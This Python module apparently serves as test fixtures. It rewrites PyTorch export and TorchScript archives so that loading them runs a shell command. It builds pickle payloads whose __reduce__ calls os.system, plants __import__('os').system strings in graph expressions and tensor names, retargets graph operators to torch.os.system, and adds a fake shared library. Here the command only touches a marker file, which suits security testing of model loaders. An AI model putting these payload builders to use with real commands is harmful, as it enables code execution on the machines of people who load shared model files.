"""PyTorch's files that make a file elsewhere when they are loaded as torch.export.load would."""

from __future__ import annotations

import io
import json
import os
import pickle
import zipfile
from collections.abc import Callable, Mapping
from pathlib import Path
from typing import Any

Records = dict[str, bytes]
Change = Callable[[Records, str], None]

_GRAPH = "model/models/model.json"
_WEIGHTS = "model/data/weights/model_weights_config.json"
_CONSTANTS = "model/data/constants/model_constants_config.json"
_SAMPLES = "model/data/sample_inputs/model.pt"


class _Evil:
    def __init__(self, command: str) -> None:
        self._command = command

    def __reduce__(self) -> Any:
        return os.system, (self._command,)


def rewritten(source: Path, target: Path, change: Change, marker: Path) -> None:
    """Copy an archive with its records changed, as by one of ``EXPORTED``."""
    with zipfile.ZipFile(source) as archive:
        # Each archive has one folder, named after its file.
        records = {f"model/{n.split('/', 1)[1]}": archive.read(n) for n in archive.namelist()}
    change(records, f"touch {marker}")
    _write(target, records)


def _write(target: Path | io.BytesIO, records: Mapping[str, bytes]) -> None:
    with zipfile.ZipFile(target, "w") as archive:
        for name, content in records.items():
            archive.writestr(name, content)


def _saved(command: str, template: bytes) -> bytes:
    """A file of torch.save with another pickle in it."""
    with zipfile.ZipFile(io.BytesIO(template)) as archive:
        records = {name: archive.read(name) for name in archive.namelist()}
    (name,) = [name for name in records if name.endswith("data.pkl")]
    records[name] = pickle.dumps(_Evil(command), 2)
    file = io.BytesIO()
    _write(file, records)
    return file.getvalue()


def _graph(change: Callable[[dict[str, Any], str], None]) -> Change:
    def run(records: Records, command: str) -> None:
        document = json.loads(records[_GRAPH])
        change(document, command)
        records[_GRAPH] = json.dumps(document).encode()

    return run


def _pickled_weight(records: Records, command: str) -> None:
    document = json.loads(records[_WEIGHTS])
    (entry,) = document["config"].values()
    entry["use_pickle"] = True
    records[_WEIGHTS] = json.dumps(document).encode()
    records["model/data/weights/weight_0"] = _saved(command, records[_SAMPLES])


def _pickled_sample(records: Records, command: str) -> None:
    records[_SAMPLES] = _saved(command, records[_SAMPLES])


def _pickled_constant(records: Records, command: str) -> None:
    entry = {"path_name": "opaque_obj_0", "is_param": False, "use_pickle": True}
    document = {"config": {"c": entry | {"tensor_meta": None}}}
    records[_CONSTANTS] = json.dumps(document).encode()
    records["model/data/constants/opaque_obj_0"] = pickle.dumps(_Evil(command))


def _library(records: Records, command: str) -> None:
    records["model/data/aotinductor/model/model.so"] = b"\x7fELF" + command.encode()


def _expression(document: dict[str, Any], command: str) -> None:
    (size, *_) = document["graph_module"]["graph"]["tensor_values"]["x"]["sizes"]
    size["as_expr"]["expr_str"] = f"__import__('os').system('{command}')"


def _operator(document: dict[str, Any], command: str) -> None:
    node = document["graph_module"]["graph"]["nodes"][0]
    node["target"] = "torch.os.system"
    node["inputs"] = [{"name": "command", "arg": {"as_string": command}, "kind": 1}]


def _reading_operator(document: dict[str, Any], command: str) -> None:
    node = document["graph_module"]["graph"]["nodes"][0]
    node["target"] = "torch.ops.aten.from_file.default"


def _name(document: dict[str, Any], command: str) -> None:
    graph = document["graph_module"]["graph"]
    graph["tensor_values"][f"x=__import__('os').system('{command}')"] = graph["tensor_values"]["x"]


def _container(document: dict[str, Any], command: str) -> None:
    signature = document["graph_module"]["module_call_graph"][0]["signature"]
    signature["out_spec"] = json.dumps(
        [1, {"type": "collections.defaultdict", "context": '["os", []]', "children_spec": []}]
    )


def pickled_script(records: Records, command: str) -> None:
    """TorchScript whose objects are another pickle."""
    (name,) = [name for name in records if name.endswith("/data.pkl")]
    records[name] = pickle.dumps(_Evil(command), 2)


EXPORTED: dict[str, Change] = {
    "pickled weight": _pickled_weight,
    "pickled sample": _pickled_sample,
    "pickled constant": _pickled_constant,
    "library": _library,
    "expression": _graph(_expression),
    "operator": _graph(_operator),
    "reading operator": _graph(_reading_operator),
    "name": _graph(_name),
    "container": _graph(_container),
}
